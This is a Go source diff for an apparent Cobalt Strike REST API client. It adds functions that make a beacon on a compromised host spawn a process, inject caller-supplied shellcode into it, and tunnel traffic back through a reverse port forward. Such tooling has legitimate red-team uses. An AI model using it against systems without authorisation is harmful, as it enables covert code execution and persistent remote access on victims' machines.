@@ -0,0 +1,54 @@
+package csclient
+
+import (
+	"context"
+	"fmt"
+	"strconv"
+)
+
+// Spunnel spawns a process, runs shellcode in it and tunnels the agent's
+// connections to host:port through the beacon as a reverse port forward from
+// the team server. The REST API has no spunnel endpoint, so the command is
+// submitted through the console with the shellcode attached; the process
+// architecture is that of the beacon.
+func (c *Client) Spunnel(ctx context.Context, bid, host string, port int, shellcode []byte) (*AsyncCommandResponse, error) {
+	return c.spunnel(ctx, bid, "spunnel", host, port, shellcode)
+}
+
+// SpunnelLocal is Spunnel with host:port reached from the Cobalt Strike client
+// (the REST API server) rather than the team server
+func (c *Client) SpunnelLocal(ctx context.Context, bid, host string, port int, shellcode []byte) (*AsyncCommandResponse, error) {
+	return c.spunnel(ctx, bid, "spunnel_local", host, port, shellcode)
+}
+
+func (c *Client) spunnel(ctx context.Context, bid, command, host string, port int, shellcode []byte) (*AsyncCommandResponse, error) {
+	if host == "" {
+		return nil, fmt.Errorf("failed to run %s: %w", command, &ValidationError{Field: "host", Value: host, Reason: "must not be empty"})
+	}
+	if port < 1 || port > 65535 {
+		return nil, fmt.Errorf("failed to run %s: %w", command, &ValidationError{Field: "port", Value: strconv.Itoa(port), Reason: "must be between 1 and 65535"})
+	}
+	if len(shellcode) == 0 {
+		return nil, fmt.Errorf("failed to run %s: %w", command, &ValidationError{Field: "shellcode", Value: "", Reason: "must not be empty"})
+	}
+
+	beacon, err := c.GetBeacon(ctx, bid)
+	if err != nil {
+		return nil, fmt.Errorf("failed to run %s: %w", command, err)
+	}
+	arch := beacon.BeaconArch
+	if err := validateTargetArch(arch); err != nil {
+		return nil, fmt.Errorf("failed to run %s: beacon architecture: %w", command, err)
+	}
+
+	ref, files := attachFile("agent.bin", shellcode)
+	resp, err := c.ExecuteConsoleCommand(ctx, bid, CommandDto{
+		Command:   command,
+		Arguments: fmt.Sprintf("%s %s %d %s", arch, host, port, ref),
+		Files:     files,
+	})
+	if err != nil {
+		return nil, fmt.Errorf("failed to run %s: %w", command, err)
+	}
+	return resp, nil
+}